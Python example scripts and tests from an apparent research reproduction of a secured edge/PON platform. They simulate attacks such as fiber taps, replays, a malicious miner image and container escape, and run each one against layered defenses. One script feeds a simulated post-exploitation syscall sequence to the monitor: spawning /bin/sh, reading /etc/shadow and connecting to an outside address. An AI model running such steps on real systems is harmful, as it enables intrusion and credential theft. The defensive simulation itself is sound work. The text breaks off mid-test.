#!/usr/bin/env python3
"""Business-user onboarding: publishing edge applications through the gate.

The GENIO use case from Section II: business users share container images
on the public registry; the publication gate (M13-M16) decides what gets
in, and nodes only run what the registry signed.

Run:  python examples/business_user_onboarding.py
"""

from repro.common.errors import IntegrityError, QuarantineError
from repro.platform.onboarding import OnboardingService
from repro.platform.workloads import (
    iot_analytics_image, malicious_miner_image, ml_inference_image,
    vulnerable_webapp_image,
)


def main() -> None:
    print("=== Business-user onboarding through the publication gate ===\n")
    service = OnboardingService()

    submissions = [
        ("acme (diligent ML shop)", ml_inference_image()),
        ("meterco (fat base image)", iot_analytics_image()),
        ("webshop (sloppy dev)", vulnerable_webapp_image()),
        ("freebie (malicious reuse)", malicious_miner_image()),
    ]
    for publisher, image in submissions:
        print(f"--- {publisher} submits {image.reference}")
        try:
            verdict = service.submit(image, publisher=publisher)
        except QuarantineError as exc:
            rejected = service.verdicts[-1]
            print(f"    REJECTED ({len(rejected.blocking_findings)} blocking "
                  f"findings):")
            for finding in rejected.blocking_findings[:4]:
                print(f"      [{finding.stage}] {finding.detail}")
            if len(rejected.blocking_findings) > 4:
                print(f"      ... and "
                      f"{len(rejected.blocking_findings) - 4} more")
        else:
            print(f"    admitted and signed "
                  f"({len(verdict.advisories)} advisories)")
            for finding in verdict.advisories[:2]:
                print(f"      advisory [{finding.stage}] {finding.detail}")
        print()

    print(f"registry catalog after onboarding: {service.registry.catalog()}")

    print("\n--- node-side pull policy ---")
    image = service.pull_verified("acme/ml-inference:2.3.1")
    print(f"verified pull of {image.reference}: ok")

    sideload = vulnerable_webapp_image()
    service.registry.publish(sideload, publisher="rogue-insider")  # unsigned
    try:
        service.pull_verified(sideload.reference)
    except IntegrityError as exc:
        print(f"sideloaded unsigned image: pull refused ({exc})")


if __name__ == "__main__":
    main()

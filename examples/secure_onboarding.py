#!/usr/bin/env python3
"""Secure ONU onboarding: T1 network attacks vs the M3/M4 mitigations.

Walks the exact scenario Section IV-B of the paper protects against:
a fiber tap on the shared PON, a rogue device cloning a subscriber's
serial number, and a replayed command on the OLT uplink — each tried
against the unprotected plant and then against the secured one.

Run:  python examples/secure_onboarding.py
"""

from repro.common.clock import SimClock
from repro.pon.attacks import FiberTapAttack, OnuImpersonationAttack, ReplayAttack
from repro.pon.fiber import EthernetLink
from repro.pon.frames import Frame
from repro.pon.macsec import MacsecChannel, derive_sak
from repro.pon.network import PonNetwork
from repro.pon.onu import Onu
from repro.security.comms import SecureChannelManager


def show(result) -> None:
    status = "ATTACK SUCCEEDED" if result.succeeded else "defended"
    print(f"  [{status:>16}] {result.attack}: {result.detail}")


def unprotected_plant() -> None:
    print("--- Unprotected PON (GPON defaults) ---")
    network = PonNetwork.build("olt-legacy")
    network.attach_onu(Onu("GNIO010001", premises="home-1"))

    tap = FiberTapAttack(network)
    network.send_downstream("GNIO010001", b"meter reading: 482.7 kWh, acct 9913")
    show(tap.run())
    show(OnuImpersonationAttack(network, "GNIO010001").run())


def secured_plant() -> None:
    print("\n--- Secured PON (M3 encryption + M4 PKI onboarding) ---")
    manager = SecureChannelManager()
    network = PonNetwork.build("olt-secure")
    manager.secure_pon(network)

    onu = Onu("GNIO010001", premises="home-1")
    manager.enroll_onu(onu)
    manager.activate_onu_securely(network, onu)
    print(f"  enrolled + activated {onu.serial} with certificate "
          f"{onu.identity_certificate.serial}")

    tap = FiberTapAttack(network)
    network.send_downstream("GNIO010001", b"meter reading: 482.7 kWh, acct 9913")
    show(tap.run())
    show(OnuImpersonationAttack(network, "GNIO010001").run())
    print(f"  (legitimate ONU still received "
          f"{len(network.delivered_to('GNIO010001'))} frames fine)")


def uplink_replay() -> None:
    print("\n--- OLT uplink replay (M3 MACsec) ---")
    manager = SecureChannelManager()
    manager.enroll("olt-1")
    manager.enroll("cloud-ctl")
    secured = manager.secure_link("uplink-1", "olt-1", "cloud-ctl")
    print(f"  handshake cost: {secured.handshake.cost_units} asymmetric ops, "
          f"{secured.handshake.round_trips} round trips")

    link = EthernetLink("uplink-1", SimClock())
    attack = ReplayAttack(link)

    sak = derive_sak(secured.handshake.shared_secret, "uplink-1")
    receiver = MacsecChannel(sak)
    frame = secured.macsec.a_to_b.protect(
        Frame("olt-1", "cloud-ctl", payload=b"reboot onu GNIO010001"))
    link.transmit(frame, frame.size)
    receiver.validate(frame)
    show(attack.run(receiver=receiver))

    plain_link = EthernetLink("uplink-legacy", SimClock())
    plain_attack = ReplayAttack(plain_link)
    plain = Frame("olt-1", "cloud-ctl", payload=b"reboot onu GNIO010001")
    plain_link.transmit(plain, plain.size)
    show(plain_attack.run(receiver=None))


def main() -> None:
    print("=== Secure onboarding walkthrough (T1 vs M3/M4) ===\n")
    unprotected_plant()
    secured_plant()
    uplink_replay()


if __name__ == "__main__":
    main()

#!/usr/bin/env python3
"""A simulated operations day on the secured GENIO platform.

Ties the operational machinery together on the simulation clock:
GPON key rotation sweeps, a vulnerability scan-and-patch cycle, a
compliance drift check after a careless config change, an attestation
round over the OLT fleet, and incident correlation over the day's
runtime alerts.

Run:  python examples/operations_day.py
"""

from repro.platform import build_genio_deployment, vulnerable_webapp_image
from repro.orchestrator.kube.objects import PodSpec
from repro.security.access.drift import DriftDetector
from repro.security.comms.keyrotation import KeyRotationService
from repro.security.integrity.attestation import (
    AttestationAgent, AttestationVerifier,
)
from repro.security.monitor.correlate import correlate, triage
from repro.security.pipeline import SecurityPipeline

_HOUR = 3600.0


def main() -> None:
    print("=== A simulated operations day ===\n")
    deployment = build_genio_deployment(n_olts=1, onus_per_olt=2)
    posture = SecurityPipeline(deployment).apply()
    clock = deployment.clock
    olt = deployment.olts[0]

    # 06:00 — scheduled GPON key rotation.
    rotation = KeyRotationService(olt.pon, period_s=6 * _HOUR)
    rotation.start(horizon_s=24 * _HOUR)

    # Baseline compliance for drift detection.
    drift = DriftDetector(posture.compliance)
    checks = drift.baseline()
    print(f"[00:00] compliance baseline approved ({checks} checks)")

    # Attestation round over the fleet.
    verifier = AttestationVerifier(posture.boot)
    agents = {}
    for host in deployment.all_hosts():
        agent = AttestationAgent(host, seed=hash(host.hostname) % 1000)
        verifier.register(agent)
        agents[host.hostname] = agent
        host.boot()
        nonce = verifier.challenge()
        verdict = verifier.verify(agent.quote(nonce), nonce)
        print(f"[00:10] attestation {host.hostname}: "
              f"{'trusted' if verdict.trusted else verdict.reason}")

    # 09:00 — a tenant deploys a (vulnerable) app; attacker probes it.
    clock.advance(9 * _HOUR)
    pod = deployment.cloud_cluster.schedule(PodSpec(
        name="storefront", namespace="tenant-a",
        image=vulnerable_webapp_image(), tenant="tenant-a"))
    runtime = deployment.cloud_cluster.nodes[pod.node].runtime
    print(f"\n[09:00] tenant-a deployed {pod.spec.image.reference} "
          f"on {pod.node}")

    # Post-exploitation behaviour shows up in the syscall stream.
    for syscall, args in [("execve", {"path": "/bin/sh"}),
                          ("open", {"path": "/etc/shadow"}),
                          ("connect", {"dst": "198.51.100.77:443"})]:
        runtime.syscall(pod.container_id, syscall, **args)
    print(f"[09:05] monitor has {len(posture.falco.alerts)} alerts so far")

    # 12:00 — someone "temporarily" disables audit logging.
    clock.advance(3 * _HOUR)
    deployment.cloud_cluster.api.config.audit_logging = False
    drift_report = drift.check()
    print(f"\n[12:00] drift check: {len(drift_report.regressions)} "
          f"regression(s)")
    for finding in drift_report.regressions:
        print(f"        REGRESSED {finding.framework} {finding.check_id}: "
              f"{finding.description}")
    deployment.cloud_cluster.api.config.audit_logging = True
    print("        -> reverted; drift now "
          f"{'clean' if drift.check().clean else 'dirty'}")

    # 18:00 — correlate the day's alerts into incidents.
    clock.advance(6 * _HOUR)
    incidents = correlate(posture.falco.alerts, window_s=15 * 60)
    buckets = triage(incidents)
    print(f"\n[18:00] incident correlation: {len(incidents)} incident(s)")
    for incident in buckets["respond"]:
        print(f"        RESPOND  {incident.summary()}")
    for incident in buckets["review"]:
        print(f"        review   {incident.summary()}")

    # 24:00 — rotation history and closing state.
    clock.advance(6 * _HOUR)
    print(f"\n[24:00] key rotations completed: {len(rotation.history)} "
          f"(indexes now "
          f"{sorted(set(sum((list(r.new_indexes.values()) for r in rotation.history), [])))[-1]})")
    print(f"        monitor processed {posture.falco.events_processed} "
          f"events over the day")


if __name__ == "__main__":
    main()

#!/usr/bin/env python3
"""Quickstart: stand up GENIO, apply the security-by-design pipeline.

Builds the full three-layer platform of the paper's Figure 1 with every
component's insecure defaults, runs the M1-M18 pipeline over it, and
prints what changed.

Run:  python examples/quickstart.py
"""

from repro.platform import build_genio_deployment
from repro.security.pipeline import SecurityPipeline


def main() -> None:
    print("=== GENIO quickstart ===\n")
    deployment = build_genio_deployment(n_olts=2, onus_per_olt=4)

    print("Deployment (Figure 1):")
    for layer, info in deployment.deployment_inventory().items():
        print(f"  {layer:<9} {len(info['devices'])} x {info['device_type']}"
              f" @ {info['location']} (~{info['latency_ms']} ms)")

    print("\nApplying the security-by-design pipeline (M1-M18)...")
    posture = SecurityPipeline(deployment).apply()
    for step in posture.steps_completed:
        print(f"  [done] {step}")

    print("\nHardening results (Lesson 1):")
    for hostname, summary in posture.hardening.items():
        before = summary.pass_rate_before
        after = summary.pass_rate_after
        print(f"  {hostname}: SCAP {before['onl-scap']:.0%} -> "
              f"{after['onl-scap']:.0%}, kernel {before['kernel']:.0%} -> "
              f"{after['kernel']:.0%} "
              f"(SDN conflicts kept: {', '.join(summary.sdn_conflicts) or 'none'})")

    print("\nSecure storage (Lesson 3):")
    for hostname, result in posture.storage.items():
        print(f"  {hostname}: encrypted={result.encrypted} "
              f"unlock={result.unlock_mode}")

    print("\nPatches applied per host (M8):")
    for hostname, count in posture.patches_applied.items():
        print(f"  {hostname}: {count}")

    reports = posture.compliance.run()
    print("\nCompliance after hardening (M11):")
    for name, report in reports.items():
        print(f"  {name:<28} {report.passed}/{len(report.checks)} checks pass")

    print(f"\nRuntime monitor attached; {posture.falco.events_processed} "
          "events observed so far.")
    print("\nThe platform is now secured. See the other examples for "
          "attack/defense walkthroughs.")


if __name__ == "__main__":
    main()

#!/usr/bin/env python3
"""Application-security pipeline on real tenant images (M13-M15, Lesson 7).

Runs SCA, SAST and DAST over the registry's images — one clean, one with
noisy unused dependencies, one genuinely vulnerable — and prints the
findings the way GENIO's publication gate sees them.

Run:  python examples/appsec_pipeline.py
"""

from repro.platform.workloads import (
    iot_analytics_image, legacy_java_billing_image, ml_inference_image,
    vulnerable_webapp_image,
)
from repro.security.appsec import CatsFuzzer, SastEngine, ScaScanner
from repro.security.vulnmgmt import build_cve_corpus


def main() -> None:
    print("=== Application security pipeline (M13-M15) ===")
    sca = ScaScanner(build_cve_corpus())
    sast = SastEngine()
    fuzzer = CatsFuzzer()

    for image in (ml_inference_image(), iot_analytics_image(),
                  vulnerable_webapp_image(), legacy_java_billing_image()):
        print(f"\n### {image.reference} (provenance: {image.provenance})")

        sca_report = sca.scan(image)
        print(f"[M13 SCA] {len(sca_report.findings)} findings "
              f"({len(sca_report.actionable)} on imported deps, "
              f"{len(sca_report.noise)} noise on unused deps — Lesson 7)")
        for finding in sca_report.findings[:4]:
            tag = "" if finding.reachable else "  <- never imported"
            print(f"    {finding.cve.cve_id:<16} "
                  f"{finding.package.name}=={finding.package.version}{tag}")

        sast_report = sast.scan_image(image)
        print(f"[M14 SAST] {len(sast_report.security_findings)} security + "
              f"{len(sast_report.quality_findings)} quality findings in "
              f"{sast_report.files_scanned} files")
        for finding in sast_report.security_findings[:5]:
            print(f"    {finding.rule_id:<10} {finding.path}:{finding.line} "
                  f"{finding.message}")

        fuzz_report = fuzzer.fuzz_image(image)
        if not fuzz_report.fuzzable:
            print(f"[M15 DAST] {fuzz_report.note} (Lesson 7)")
        else:
            print(f"[M15 DAST] {len(fuzz_report.findings)} runtime defects "
                  f"from {fuzz_report.requests_sent} fuzzed requests")
            for finding in fuzz_report.findings[:4]:
                print(f"    {finding.kind:<18} {finding.operation} "
                      f"param={finding.parameter} [{finding.payload_family}]")

        if image.env_secrets():
            print(f"[config] secrets in env: {', '.join(image.env_secrets())}")


if __name__ == "__main__":
    main()

#!/usr/bin/env python3
"""Latency-aware placement plus attestation-gated scheduling.

The Figure 1 story, operationalized: workloads declare latency bounds and
land on the cheapest layer that satisfies them (cloud < edge < far-edge);
and because far-edge/edge hardware sits in the field, nodes must pass
remote attestation before taking work — a tampered OLT is quarantined.

Run:  python examples/far_edge_placement.py
"""

from repro.osmodel.boot import BootComponent, BootStage
from repro.platform import build_genio_deployment
from repro.platform.placement import LayerPlacer, WorkloadRequirement
from repro.platform.workloads import iot_analytics_image, ml_inference_image
from repro.security.integrity.attestation import (
    AttestationAgent, AttestationVerifier,
)
from repro.security.integrity.secureboot import SecureBootProvisioner


def main() -> None:
    print("=== Latency-aware placement + attested scheduling ===\n")
    deployment = build_genio_deployment(n_olts=1, onus_per_olt=3)
    placer = LayerPlacer(deployment)

    workloads = [
        WorkloadRequirement("camera-inference", ml_inference_image(),
                            "tenant-a", max_latency_ms=2.0,
                            near_onu=sorted(deployment.onus)[0]),
        WorkloadRequirement("meter-aggregation", iot_analytics_image(),
                            "tenant-a", max_latency_ms=8.0),
        WorkloadRequirement("traffic-analytics", ml_inference_image(),
                            "tenant-b", max_latency_ms=8.0),
        WorkloadRequirement("monthly-billing", iot_analytics_image(),
                            "tenant-a", max_latency_ms=500.0),
        WorkloadRequirement("model-training", ml_inference_image(),
                            "tenant-b", max_latency_ms=500.0),
    ]
    print(f"{'workload':<22} {'latency bound':>13}  placed at")
    for workload in workloads:
        placement = placer.place(workload)
        print(f"{workload.name:<22} {workload.max_latency_ms:>11.1f}ms  "
              f"{placement.layer} ({placement.node}, "
              f"~{placement.latency_ms}ms)")

    layers = placer.by_layer()
    print(f"\nper-layer load: far-edge={len(layers['far-edge'])} "
          f"edge={len(layers['edge'])} cloud={len(layers['cloud'])} "
          "(cheap layers fill first)")

    # --- attestation-gated scheduling ---------------------------------------
    print("\n--- remote attestation gate for field nodes ---")
    olt_host = deployment.olts[0].host
    provisioner = SecureBootProvisioner()
    provisioner.provision(olt_host)
    provisioner.record_golden_state(olt_host)
    agent = AttestationAgent(olt_host, seed=3)
    verifier = AttestationVerifier(provisioner)
    verifier.register(agent)

    olt_host.boot()
    nonce = verifier.challenge()
    verdict = verifier.verify(agent.quote(nonce), nonce)
    print(f"healthy OLT:   trusted={verdict.trusted} "
          f"(schedulable={verifier.is_schedulable(olt_host.hostname)})")

    olt_host.firmware.secure_boot = False
    olt_host.boot_chain.install(BootComponent(BootStage.KERNEL, b"bootkit"))
    olt_host.boot()
    nonce = verifier.challenge()
    verdict = verifier.verify(agent.quote(nonce), nonce)
    print(f"tampered OLT:  trusted={verdict.trusted} — {verdict.reason}")
    print(f"               schedulable="
          f"{verifier.is_schedulable(olt_host.hostname)} "
          "(workloads drain to other nodes)")

    provisioner.provision(olt_host)
    olt_host.firmware.secure_boot = True
    olt_host.boot()
    nonce = verifier.challenge()
    verdict = verifier.verify(agent.quote(nonce), nonce)
    print(f"restored OLT:  trusted={verdict.trusted} "
          f"(schedulable={verifier.is_schedulable(olt_host.hostname)})")


if __name__ == "__main__":
    main()

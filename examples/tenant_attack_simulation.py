#!/usr/bin/env python3
"""A malicious tenant's lifecycle against the secured platform (T8).

A business user "freebie" reuses an external container image that hides
a cryptominer and container-escape tooling. The walkthrough shows each
defense layer doing its part:

1. M16 malware signatures quarantine the image at admission;
2. with the gate bypassed (operator override), M17 LSM policies block
   the escape chain;
3. M18 runtime monitoring sees every attempt either way;
4. resource abuse is detected and the offender evicted.

Run:  python examples/tenant_attack_simulation.py
"""

from repro.attacks import (
    CapabilityAbuseAttack, MaliciousImageAttack, ResourceAbuseAttack,
)
from repro.platform.workloads import malicious_miner_image, ml_inference_image
from repro.security.malware import YaraScanner, make_admission_hook
from repro.security.monitor import FalcoEngine, ResourceAbuseDetector
from repro.security.sandbox import default_tenant_policy, install_policy
from repro.virt.container import ContainerSpec
from repro.virt.runtime import ContainerRuntime


def main() -> None:
    print("=== Malicious tenant simulation (T8 vs M16/M17/M18) ===\n")
    image = malicious_miner_image()
    print(f"tenant 'freebie' pulls external image {image.reference}")

    scan = YaraScanner().scan_image(image)
    print(f"\n[M16] YaraHunter scan: {len(scan.matches)} signature hits "
          f"across {scan.files_scanned} files")
    for match in scan.matches[:4]:
        print(f"       {match.rule:<22} {match.path} ({match.description})")

    runtime = ContainerRuntime("worker-1", cpu_capacity=8.0,
                               memory_capacity_mb=16384)
    runtime.add_admission_hook(make_admission_hook())
    install_policy(runtime, default_tenant_policy("tenant-*"))
    falco = FalcoEngine()
    falco.attach(runtime.bus)

    print("\n[M16] admission gate:")
    result = MaliciousImageAttack(runtime, image).run()
    print(f"       {result.detail}")

    print("\noperator override: forcing the image past the gate "
          "(privileged, for 'performance')...")
    bypass = ContainerRuntime("worker-2", cpu_capacity=8.0,
                              memory_capacity_mb=16384)
    install_policy(bypass, default_tenant_policy("tenant-*"))
    falco2 = FalcoEngine()
    falco2.attach(bypass.bus)
    container = bypass.run(ContainerSpec(image=image, privileged=True,
                                         tenant="tenant-freebie"))
    print(f"       {container.id} running; escape vectors open: "
          f"{len(container.escape_vectors())}")

    print("\n[M17] KubeArmor-style enforcement on the escape chain:")
    escape = CapabilityAbuseAttack(bypass, container).run()
    print(f"       {'ESCAPED' if escape.succeeded else 'blocked'}: "
          f"{escape.detail}")
    for step in escape.evidence:
        print(f"         {step}")

    print("\n[M18] Falco saw every attempt (observe-without-block):")
    for rule, count in sorted(falco2.alerts_by_rule().items()):
        print(f"       {rule:<28} x{count}")

    print("\n[M18] resource abuse phase:")
    victim = bypass.run(ContainerSpec(image=ml_inference_image(),
                                      tenant="tenant-honest"))
    abuse = ResourceAbuseAttack(bypass, container).run()
    print(f"       abuse outcome before detection: "
          f"{'SUCCEEDED' if abuse.succeeded else 'contained'} — {abuse.detail}")
    detector = ResourceAbuseDetector(bypass, tolerance=1.5)
    evicted = detector.evict_offenders()
    print(f"       detector evicted: {evicted or 'nobody'}")
    print(f"       honest tenant still running: {victim.running}")


if __name__ == "__main__":
    main()

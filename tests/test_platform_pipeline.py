"""Integration tests for the assembled platform and the full pipeline."""

import pytest

from repro.common.errors import CapacityError, QuarantineError
from repro.orchestrator.kube.objects import PodSpec
from repro.platform import (
    BusinessUser, TenantDirectory, build_genio_deployment,
    malicious_miner_image, ml_inference_image,
)
from repro.platform.tenants import EndUser, ResourceLease
from repro.security.pipeline import SecurityPipeline


@pytest.fixture(scope="module")
def secured():
    deployment = build_genio_deployment(n_olts=2, onus_per_olt=3)
    posture = SecurityPipeline(deployment).apply()
    return deployment, posture


class TestDeploymentAssembly:
    def test_three_layers_populated(self):
        deployment = build_genio_deployment(n_olts=2, onus_per_olt=4)
        inventory = deployment.deployment_inventory()
        assert len(inventory["far-edge"]["devices"]) == 8
        assert len(inventory["edge"]["devices"]) == 2
        assert len(inventory["cloud"]["devices"]) == 1
        latencies = [inventory[layer]["latency_ms"]
                     for layer in ("far-edge", "edge", "cloud")]
        assert latencies == sorted(latencies)   # closer = faster

    def test_architecture_stack_mentions_paper_components(self):
        deployment = build_genio_deployment(n_olts=1, onus_per_olt=1)
        stack = deployment.architecture_stack()
        flattened = " ".join(sum(stack.values(), []))
        for component in ("ONOS", "VOLTHA", "KVM", "Kubernetes", "Proxmox",
                          "Open Networking Linux"):
            assert component in flattened

    def test_onus_are_activated(self):
        deployment = build_genio_deployment(n_olts=1, onus_per_olt=3)
        assert all(onu.activated for onu in deployment.onus.values())

    def test_vms_are_cluster_nodes(self):
        deployment = build_genio_deployment(n_olts=2)
        assert len(deployment.cloud_cluster.nodes) == 4


class TestTenantDirectory:
    def test_registration_and_lease(self):
        directory = TenantDirectory()
        directory.register_business_user(BusinessUser("acme", "tenant-acme"))
        lease = directory.lease("acme", cpu_cores=4, memory_mb=8192,
                                storage_gb=100, isolation="hard")
        assert lease in directory.business_user("acme").leases

    def test_lease_capacity_check(self):
        directory = TenantDirectory()
        directory.register_business_user(BusinessUser("acme", "t"))
        with pytest.raises(CapacityError):
            directory.lease("acme", cpu_cores=64, memory_mb=1, storage_gb=1,
                            available_cpu=16)

    def test_invalid_lease(self):
        with pytest.raises(ValueError):
            ResourceLease("t", cpu_cores=0, memory_mb=1, storage_gb=1)
        with pytest.raises(ValueError):
            ResourceLease("t", cpu_cores=1, memory_mb=1, storage_gb=1,
                          isolation="medium")

    def test_duplicate_registration(self):
        directory = TenantDirectory()
        directory.register_end_user(EndUser("u", "SER1"))
        with pytest.raises(ValueError):
            directory.register_end_user(EndUser("u", "SER1"))


class TestSecurityPipeline:
    def test_all_steps_complete(self, secured):
        _, posture = secured
        assert len(posture.steps_completed) == 7

    def test_hosts_hardened(self, secured):
        deployment, posture = secured
        for host in deployment.all_hosts():
            summary = posture.hardening[host.hostname]
            assert summary.pass_rate_after["onl-scap"] == 1.0

    def test_pon_encrypted_and_certificate_gated(self, secured):
        deployment, _ = secured
        for olt_node in deployment.olts:
            assert olt_node.pon.olt.encryption_enabled
            assert olt_node.pon.olt.auth_mode == "certificate"
        assert all(onu.activated for onu in deployment.onus.values())

    def test_secure_boot_attests(self, secured):
        deployment, posture = secured
        for host in deployment.all_hosts():
            host.boot()
            assert posture.boot.attest_host(host).trusted

    def test_lesson3_storage_split(self, secured):
        deployment, posture = secured
        assert posture.storage["cloud-ctl-1"].unlock_mode == "auto"
        for olt_node in deployment.olts:
            assert posture.storage[olt_node.name].unlock_mode == \
                "manual-passphrase"

    def test_patching_reduced_findings(self, secured):
        deployment, posture = secured
        for olt_node in deployment.olts:
            assert posture.patches_applied[olt_node.name] > 0
            report = posture.host_scanner.scan(olt_node.host)
            assert len(report.critical_or_exploitable) <= 3

    def test_cluster_tightened(self, secured):
        deployment, _ = secured
        assert deployment.cloud_cluster.api.config.authorization_mode == "RBAC"
        assert not deployment.cloud_cluster.api.config.anonymous_auth

    def test_malicious_image_cannot_schedule(self, secured):
        deployment, _ = secured
        with pytest.raises(QuarantineError):
            deployment.cloud_cluster.schedule(PodSpec(
                name="miner", namespace="tenant-a",
                image=malicious_miner_image(), tenant="tenant-a"))

    def test_clean_image_schedules_and_runs_under_watch(self, secured):
        deployment, posture = secured
        pod = deployment.cloud_cluster.schedule(PodSpec(
            name="ml", namespace="tenant-a", image=ml_inference_image(),
            tenant="tenant-a"))
        runtime = deployment.cloud_cluster.nodes[pod.node].runtime
        record = runtime.syscall(pod.container_id, "execve", path="/bin/sh")
        assert not record.allowed     # M17 blocks
        assert posture.falco.alerts_by_rule().get("shell_in_container")  # M18 sees

    def test_compliance_after_pipeline(self, secured):
        _, posture = secured
        reports = posture.compliance.run()
        assert reports["kube-bench"].pass_rate == 1.0
        assert reports["kube-hunter"].pass_rate == 1.0

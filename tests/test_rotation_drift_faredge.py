"""Tests for GPON key rotation, compliance drift detection, and the
far-edge ONU runtime."""

import pytest

from repro.common.errors import IntegrityError, QuarantineError
from repro.orchestrator.kube.cluster import KubeCluster
from repro.orchestrator.kube.objects import Namespace, PodSpec
from repro.orchestrator.kube.rbac import permissive_default_rbac
from repro.platform import build_genio_deployment, malicious_miner_image, ml_inference_image
from repro.platform.placement import LayerPlacer, WorkloadRequirement
from repro.pon.attacks import FiberTapAttack
from repro.pon.gpon import GponDecryptor
from repro.pon.network import PonNetwork
from repro.pon.onu import Onu
from repro.security.access.compliance import ComplianceSuite
from repro.security.access.drift import DriftDetector
from repro.security.access.leastprivilege import tighten_cluster
from repro.security.comms import SecureChannelManager
from repro.security.comms.keyrotation import KeyRotationService
from repro.security.malware import make_admission_hook
from repro.virt.container import ContainerSpec


class TestKeyRotation:
    @pytest.fixture
    def secured_pon(self):
        manager = SecureChannelManager()
        network = PonNetwork.build()
        manager.secure_pon(network)
        onu = Onu("ONU-A")
        manager.enroll_onu(onu)
        manager.activate_onu_securely(network, onu)
        return network, onu

    def test_rotation_keeps_subscriber_working(self, secured_pon):
        network, onu = secured_pon
        service = KeyRotationService(network)
        network.send_downstream("ONU-A", b"before")
        record = service.rotate_now()
        assert record.gem_ports
        network.send_downstream("ONU-A", b"after")
        payloads = [f.payload for f in network.delivered_to("ONU-A")]
        assert payloads == [b"before", b"after"]

    def test_rotation_limits_key_compromise_window(self, secured_pon):
        """A key stolen *after* rotation cannot decrypt traffic captured
        *before* it (and vice versa)."""
        network, onu = secured_pon
        service = KeyRotationService(network)
        tap = FiberTapAttack(network)
        gem_port = network.olt.provisioned_serials["ONU-A"]

        network.send_downstream("ONU-A", b"window-1 secret")
        before_frames = list(tap.tap.captured)
        service.rotate_now()
        stolen_key, stolen_index = network.olt.key_server.export_key(gem_port)

        thief = GponDecryptor()
        thief.install_key(gem_port, stolen_key, stolen_index)
        with pytest.raises(IntegrityError):
            thief.decrypt(before_frames[0])

    def test_scheduled_rotation_on_clock(self, secured_pon):
        network, _ = secured_pon
        service = KeyRotationService(network, period_s=3600.0)
        service.start(horizon_s=4 * 3600.0)
        network.clock.advance(4 * 3600.0)
        assert len(service.history) == 4
        indexes = [r.new_indexes for r in service.history]
        gem_port = network.olt.provisioned_serials["ONU-A"]
        assert [ix[gem_port] for ix in indexes] == [1, 2, 3, 4]

    def test_invalid_period(self, secured_pon):
        network, _ = secured_pon
        with pytest.raises(ValueError):
            KeyRotationService(network, period_s=0)

    def test_inactive_onus_skipped(self):
        network = PonNetwork.build()
        network.provision_only("GHOST")
        service = KeyRotationService(network)
        assert service.rotate_now().gem_ports == []


class TestDriftDetection:
    @pytest.fixture
    def suite(self):
        cluster = KubeCluster(rbac=permissive_default_rbac())
        cluster.add_namespace(Namespace("tenant-a"))
        tighten_cluster(cluster)
        return ComplianceSuite(cluster), cluster

    def test_clean_when_nothing_changes(self, suite):
        detector = DriftDetector(suite[0])
        assert detector.baseline() > 0
        report = detector.check()
        assert report.clean and not report.findings

    def test_regression_detected(self, suite):
        compliance_suite, cluster = suite
        detector = DriftDetector(compliance_suite)
        detector.baseline()
        cluster.api.config.audit_logging = False   # someone "simplified" it
        report = detector.check()
        assert not report.clean
        regressed = {f.check_id for f in report.regressions}
        assert "1.2.22" in regressed               # kube-bench audit check

    def test_improvement_not_flagged_as_regression(self, suite):
        compliance_suite, cluster = suite
        cluster.api.config.audit_logging = False
        detector = DriftDetector(compliance_suite)
        detector.baseline()
        cluster.api.config.audit_logging = True
        report = detector.check()
        assert report.clean
        assert any(f.change == "improved" for f in report.findings)

    def test_new_pod_checks_appear(self, suite):
        compliance_suite, cluster = suite
        detector = DriftDetector(compliance_suite)
        detector.baseline()
        from repro.virt.hypervisor import Hypervisor
        from repro.virt.vm import VmSpec
        hv = Hypervisor("olt-1", clock=cluster.clock, bus=cluster.bus)
        cluster.add_node(hv.create_vm(VmSpec("w", vcpus=4, memory_mb=8192)))
        cluster.api.config.admission_plugins.clear()  # simplify scheduling
        cluster.schedule(PodSpec(name="new", namespace="tenant-a",
                                 image=ml_inference_image()))
        report = detector.check()
        assert any(f.change == "appeared" for f in report.findings)

    def test_check_without_baseline(self, suite):
        with pytest.raises(ValueError):
            DriftDetector(suite[0]).check()


class TestFarEdgeRuntime:
    def test_far_edge_placement_runs_container(self):
        deployment = build_genio_deployment(n_olts=1, onus_per_olt=1)
        placer = LayerPlacer(deployment)
        placement = placer.place(WorkloadRequirement(
            "cam", ml_inference_image(), "tenant-a", max_latency_ms=2.0))
        assert placement.layer == "far-edge"
        onu = deployment.onus[placement.node]
        runtime = onu.compute_runtime()
        assert runtime.containers[placement.container_id].running

    def test_far_edge_runtime_capacity_matches_profile(self):
        onu = Onu("X")
        runtime = onu.compute_runtime()
        assert runtime.cpu_capacity == onu.compute.cpu_cores
        assert runtime.memory_capacity_mb == onu.compute.memory_mb

    def test_malware_gate_applies_at_far_edge_too(self):
        onu = Onu("X")
        runtime = onu.compute_runtime()
        runtime.add_admission_hook(make_admission_hook())
        with pytest.raises(QuarantineError):
            runtime.run(ContainerSpec(image=malicious_miner_image(),
                                      tenant="tenant-m"))

    def test_runtime_is_cached(self):
        onu = Onu("X")
        assert onu.compute_runtime() is onu.compute_runtime()

"""Tests for CRA readiness mapping and per-image SBOMs."""

import json

import pytest

from repro.platform.workloads import iot_analytics_image, ml_inference_image
from repro.security.appsec.sbom import (
    attach_vulnerabilities, generate_sbom,
)
from repro.security.threatmodel.regulatory import (
    CRA_REQUIREMENTS, assess_cra_readiness,
)
from repro.security.threatmodel.risk import ALL_MITIGATIONS
from repro.security.vulnmgmt import build_cve_corpus


class TestCraReadiness:
    def test_every_requirement_maps_to_real_mitigations(self):
        valid = set(ALL_MITIGATIONS)
        for requirement in CRA_REQUIREMENTS:
            assert requirement.satisfied_by
            assert set(requirement.satisfied_by) <= valid

    def test_full_pipeline_satisfies_everything(self):
        assessment = assess_cra_readiness(ALL_MITIGATIONS)
        assert assessment.ready
        assert assessment.counts() == {
            "satisfied": len(CRA_REQUIREMENTS), "partial": 0,
            "unsatisfied": 0}

    def test_nothing_applied_satisfies_nothing(self):
        assessment = assess_cra_readiness([])
        assert not assessment.ready
        assert assessment.counts()["unsatisfied"] == len(CRA_REQUIREMENTS)

    def test_partial_application(self):
        assessment = assess_cra_readiness(["M3", "M8"])
        by_id = {s.requirement.req_id: s for s in assessment.statuses}
        assert by_id["CRA-4"].state == "partial"      # M3 yes, M6 missing
        assert by_id["CRA-1"].state == "partial"      # M8 yes, M12/M13 missing
        assert by_id["CRA-9"].state == "unsatisfied"

    def test_render_mentions_gaps(self):
        rendered = assess_cra_readiness(["M1"]).render()
        assert "MISS" in rendered and "missing:" in rendered

    def test_every_mitigation_supports_some_requirement(self):
        used = set()
        for requirement in CRA_REQUIREMENTS:
            used |= set(requirement.satisfied_by)
        # M16-level coverage: nearly every mitigation substantiates a
